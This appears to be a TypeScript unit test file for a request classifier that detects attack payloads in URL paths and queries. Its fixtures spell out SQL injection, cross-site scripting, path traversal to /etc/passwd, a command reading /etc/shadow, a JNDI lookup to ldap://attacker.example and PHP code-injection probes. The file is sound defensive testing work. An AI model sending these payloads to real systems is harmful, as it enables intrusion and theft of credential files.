import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { classifyPath, mayHoldPayload, payloadKind, PATH_PAYLOAD, PATH_SENSITIVE, PATH_STATIC, PATH_WELL_KNOWN } from '../../src/features/classify.js';

test('attack payloads are recognised in paths and queries, encoded once or twice', () => {
  const attacks: Array<[string, string]> = [
    ["?id=1'%20OR%20'1'='1", 'sql injection'],
    ['?id=1%20UNION%20SELECT%20NULL,version()--', 'sql injection'],
    ['?id=1%2520UNION%2520ALL%2520SELECT%2520NULL', 'sql injection'],
    ['?page=1%20AND%20SLEEP(5)', 'sql injection'],
    ['?q=%3Cscript%3Ealert(1)%3C/script%3E', 'cross-site scripting'],
    ['?q=%22%3E%3Csvg/onload=alert(1)%3E', 'cross-site scripting'],
    ['/download?file=../../../../etc/passwd', 'path traversal'],
    ['/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir', 'path traversal'],
    ['?page=php://filter/convert.base64-encode/resource=index', 'path traversal'],
    ['?host=127.0.0.1%3Bcat%20/etc/shadow', 'path traversal'],
    ['?date=5%7Cid', 'command injection'],
    ['?x=$%7Bjndi:ldap://attacker.example/a%7D', 'command injection'],
    ['/index.php?s=/index/think/app/invokefunction&function=call_user_func_array', 'exploit'],
    ['?search=%24%7Burl%3AUTF-8%3Ahttps%3A%2F%2Fexample.com%2F%7D', 'command injection'],
    ['?content=%3C?php%20phpinfo();?%3E', 'exploit'],
    ['http://proxy-check.example:80/ip4.php', 'exploit'],
  ];
  for (const [text, kind] of attacks) assert.is(payloadKind(text), kind, text);
  const benign = [
    '?q=alpine+hut',
    '?q=select a room from the list',
    "?q=o'brien",
    '?q=rock%20%26%20roll',
    '?utm_source=newsletter&utm_medium=email',
    '?since=1700000000',
    '?q=it%27s%20(great)',
    '/blog/2019/10/the-best-of-summer',
    '/images/logo.png',
    '?price=$12',
    '?filter={size:large}',
    '?next=http://www.example.org/',
  ];
  for (const text of benign) assert.is(payloadKind(text), null, text);
});

test('a query without any payload character needs no closer look', () => {
  const yes = ["?id=1'", '?q=%3C', '?a=(1)', '?f=../x', '?x=${y}', '?a=1;b', '?a=`id`'];
  const no = ['?q=alpine', '?since=1700000000&page=2', '?a=b.c'];
  for (const q of yes) assert.ok(mayHoldPayload(Buffer.from(q), 0, q.length), q);
  for (const q of no) assert.not.ok(mayHoldPayload(Buffer.from(q), 0, q.length), q);
});

test('paths: static assets, sensitive places, payloads, and the files clients ask for on their own', () => {
  assert.is(classifyPath('/static/site.css'), PATH_STATIC);
  assert.is(classifyPath('/wp-login.php'), PATH_SENSITIVE);
  assert.ok(classifyPath('/cgi-bin/../../bin/sh') & PATH_PAYLOAD);
  for (const p of [
    '/apple-touch-icon.png',
    '/apple-touch-icon-120x120-precomposed.png',
    '/favicon.ico',
    '/robots.txt',
    '/sitemap.xml',
    '/.well-known/security.txt',
  ])
    assert.ok(classifyPath(p) & PATH_WELL_KNOWN, p);
  for (const p of ['/icons/apple.png', '/robots.txt.bak', '/wp-admin/favicon.ico']) assert.not.ok(classifyPath(p) & PATH_WELL_KNOWN, p);
});

test.run();
